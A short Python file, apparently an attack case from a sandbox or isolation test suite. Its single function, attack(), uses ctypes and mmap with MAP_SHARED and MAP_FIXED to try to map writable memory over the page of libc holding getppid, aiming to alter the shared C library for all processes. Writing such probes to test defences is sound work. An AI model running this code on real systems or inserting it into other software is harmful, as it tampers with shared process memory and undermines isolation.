"""Wants to write into the C library for everybody, not only for itself."""

import ctypes
import mmap


def attack():
    libc = ctypes.CDLL(None)
    start = ctypes.cast(libc.getppid, ctypes.c_void_p).value & ~4095
    size = ctypes.c_size_t(4096)
    shared = mmap.MAP_SHARED | 0x10  # MAP_FIXED, on a descriptor that is no file
    libc.mmap.restype = ctypes.c_void_p
    for descriptor in (0, 1, 3):
        where = ctypes.c_void_p(start)
        if libc.mmap(where, size, 3, shared, descriptor, ctypes.c_long(0)) != 2**64 - 1:
            return descriptor
